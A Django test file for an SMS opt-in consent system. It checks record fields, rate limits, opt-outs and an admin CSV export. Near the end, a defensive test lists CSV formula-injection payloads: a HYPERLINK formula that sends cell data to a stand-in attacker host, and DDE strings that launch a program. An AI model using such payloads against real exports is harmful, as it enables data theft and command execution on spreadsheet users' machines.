"""Consent capture on the hosted page and the widget: what is recorded, the abuse limits, the
confirmation hook, opt-outs, and the CSV export."""

from __future__ import annotations

import csv
import io

import pytest

from compliance import content, selectors
from compliance.models import ConsentRecord, ConsentThrottle
from tests.compliance import fake_sender
from tests.compliance.conftest import optin_post_data
from tests.compliance.htmlparse import read
from tests.conftest import client_for

URL = "/p/acme/opt-in/"
UA = "Mozilla/5.0 (test)"


def _submit(client, url=URL, ip="203.0.113.7", **overrides):
    data = optin_post_data(client, url, **overrides)
    return client.post(url, data, REMOTE_ADDR=ip, HTTP_USER_AGENT=UA)


@pytest.mark.django_db
def test_an_opt_in_records_number_text_version_time_ip_agent_and_source(
    published_a, tenant_a, django_capture_on_commit_callbacks
):
    client = client_for(None)
    with django_capture_on_commit_callbacks(execute=True):
        response = _submit(client, use_cases=["order_updates", "delivery_notices"])
    assert response.status_code == 200
    assert "You're signed up." in read(response.content).text
    records = list(ConsentRecord.objects.order_by("use_case"))
    assert [(r.use_case, r.use_case_label) for r in records] == [
        ("delivery_notices", "delivery notices"),
        ("order_updates", "order updates"),
    ]
    version = published_a["opt_in"]
    facts = version.program
    for record in records:
        assert record.tenant == tenant_a
        assert record.phone_e164 == "+12065550123"
        assert record.action == ConsentRecord.Action.OPT_IN
        assert record.page_version == version
        assert record.ip_address == "203.0.113.7"
        assert record.user_agent == UA
        assert record.source == ConsentRecord.Source.HOSTED_PAGE
        case = {"key": record.use_case, "label": record.use_case_label}
        assert record.text_shown == (
            content.optin_statement(facts, case) + "\n" + content.optin_disclosure(facts)
        )
        # No sender model exists yet: the confirmation is recorded as not sent, with why.
        assert record.confirmation == ConsentRecord.Confirmation.NO_SENDER
        assert record.confirmation_note == (
            "No confirmation sent: the tenant has no active sender yet."
        )
    assert selectors.consent_is_opted_in(
        tenant=tenant_a, phone_e164="+12065550123", use_case="order_updates"
    )


@pytest.mark.django_db
def test_confirmation_goes_through_the_active_sender_hook(
    published_a, settings, django_capture_on_commit_callbacks
):
    settings.COMPLIANCE_CONFIRMATION_SENDER = "tests.compliance.fake_sender.active_sender"
    fake_sender.SENT.clear()
    with django_capture_on_commit_callbacks(execute=True):
        _submit(client_for(None))
    record = ConsentRecord.objects.get()
    body = (
        "Acme Anvils: you're subscribed to order updates. Up to 4 messages per order. "
        "Msg & data rates may apply. Reply HELP for help, STOP to opt out."
    )
    assert [("acme", "+12065550123", body)] == fake_sender.SENT
    assert (record.confirmation, record.confirmation_message_id) == ("sent", "msg-1")
    # The task is idempotent: running it again sends nothing more.
    from compliance.tasks import consent_confirm_task

    assert consent_confirm_task(record.tenant_id, record.pk) is None
    assert len(fake_sender.SENT) == 1


@pytest.mark.django_db
def test_the_widget_records_its_source_and_may_be_framed_by_the_tenant_site(published_a):
    client = client_for(None)
    page = client.get("/p/acme/widget/")
    assert page.status_code == 200
    assert "X-Frame-Options" not in page
    assert (
        "frame-ancestors 'self' https://acme-anvils.example https://www.acme-anvils.example "
        "https://shop.partner.example" in page["Content-Security-Policy"]
    )
    response = _submit(client, url="/p/acme/widget/")
    assert response.status_code == 200
    assert ConsentRecord.objects.get().source == ConsentRecord.Source.WIDGET
    script = client.get("/p/acme/widget.js")
    assert script["Content-Type"] == "text/javascript; charset=utf-8"
    assert 'frame.src = "https://portal.example/p/acme/widget/";' in script.content.decode()


@pytest.mark.django_db
def test_honeypot_missing_token_and_too_fast_are_refused_and_leave_nothing(published_a, settings):
    client = client_for(None)
    assert _submit(client, website="http://spam.example").status_code == 400
    assert _submit(client, token="forged").status_code == 400
    settings.COMPLIANCE_OPTIN_MIN_SECONDS = 60
    response = _submit(client)
    assert response.status_code == 400
    assert "That was quick." in read(response.content).text
    assert ConsentRecord.objects.count() == 0
    assert ConsentThrottle.objects.count() == 0


@pytest.mark.django_db
def test_no_box_ticked_records_nothing(published_a):
    response = _submit(client_for(None), use_cases=[])
    assert response.status_code == 200
    assert "Tick at least one box to choose your messages." in read(response.content).text
    assert ConsentRecord.objects.count() == 0


@pytest.mark.django_db
def test_per_ip_limit(published_a, settings):
    settings.COMPLIANCE_OPTIN_PER_IP = 2
    client = client_for(None)
    for n in range(2):
        assert _submit(client, phone=f"+1206555012{n}").status_code == 200
    refused = _submit(client, phone="+12065550129")
    assert refused.status_code == 429
    assert "Too many sign-ups in a short time." in read(refused.content).text
    assert ConsentRecord.objects.count() == 2
    # Another address is not affected.
    assert _submit(client, ip="198.51.100.9", phone="+12065550129").status_code == 200


@pytest.mark.django_db
def test_per_number_limit_counts_across_addresses(published_a, settings):
    settings.COMPLIANCE_OPTIN_PER_NUMBER = 1
    client = client_for(None)
    assert _submit(client, ip="198.51.100.1").status_code == 200
    assert _submit(client, ip="198.51.100.2").status_code == 429
    assert ConsentRecord.objects.count() == 1
    assert ConsentThrottle.objects.get(scope="number").count == 1


@pytest.mark.django_db
def test_opt_out_is_recorded_and_wins(published_a, tenant_a):
    client = client_for(None)
    _submit(client)
    response = client.post("/p/acme/opt-out/", {"phone": "+1 206 555 0123", "website": ""})
    assert response.status_code == 200
    assert "will not send more text messages" in read(response.content).text
    out = ConsentRecord.objects.get(action="opt_out")
    assert (out.phone_e164, out.use_case, out.text_shown) == (
        "+12065550123",
        "",
        "Stop all text messages from Acme Anvils to this number.",
    )
    assert not selectors.consent_is_opted_in(
        tenant=tenant_a, phone_e164="+12065550123", use_case="order_updates"
    )


@pytest.mark.django_db
def test_csv_export_for_admins(published_a, alice):
    _submit(client_for(None))
    response = client_for(alice).get("/t/acme/compliance/consents/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:8] == [
        "created_at", "action", "phone_e164", "use_case", "use_case_label", "source",
        "page_kind", "page_version",
    ]  # fmt: skip
    assert len(rows) == 2
    assert rows[1][1:8] == [
        "opt_in", "+12065550123", "order_updates", "order updates", "hosted_page", "opt_in", "1",
    ]  # fmt: skip
    assert rows[1][8].startswith("Yes, send me order updates text messages from Acme Anvils")


HOSTILE_CELLS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.django_db
def test_csv_export_neutralises_formula_cells(published_a, alice):
    """A visitor's User-Agent reached the export as a live formula (issue 12). The first one
    comes through the real opt-in page, the rest are copies with other agents."""
    client = client_for(None)
    data = optin_post_data(client, URL)
    client.post(URL, data, REMOTE_ADDR="203.0.113.7", HTTP_USER_AGENT=HOSTILE_CELLS[0])
    first = ConsentRecord.objects.get()
    for agent in HOSTILE_CELLS[1:]:
        first.pk = None
        first.user_agent = agent
        first.save()
    ConsentRecord.objects.filter(pk=first.pk).update(confirmation_note="-")
    response = client_for(alice).get("/t/acme/compliance/consents/export.csv")
    raw = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(raw)))
    agents = [row[10] for row in rows[1:]]
    assert agents == ["'" + agent for agent in HOSTILE_CELLS]
    assert rows[1][2] == "+12065550123"  # a phone number is a number, left as it is
    assert rows[-1][12] == "'-"
    for row in rows[1:]:
        for value in row:
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) or (
                value == "+12065550123"
            )
    # Every cell is quoted: a separator inside a value cannot open a new cell.
    assert raw.splitlines()[0].startswith('"created_at","action",')


@pytest.mark.django_db
def test_csv_export_is_refused_to_members_other_tenants_and_anonymous(published_a, bob, carol):
    url = "/t/acme/compliance/consents/export.csv"
    assert client_for(bob).get(url).status_code == 403
    assert client_for(carol).get(url).status_code == 404
    response = client_for(None).get(url)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


@pytest.mark.django_db
def test_old_counters_are_pruned(published_a, tenant_a):
    from datetime import timedelta

    from django.utils import timezone

    from compliance.tasks import consent_throttle_prune_task

    _submit(client_for(None))
    assert ConsentThrottle.objects.count() == 2
    ConsentThrottle.objects.filter(scope="ip").update(
        window_start=timezone.now() - timedelta(days=2)
    )
    assert consent_throttle_prune_task() == 1
    assert list(ConsentThrottle.objects.values_list("scope", flat=True)) == ["number"]
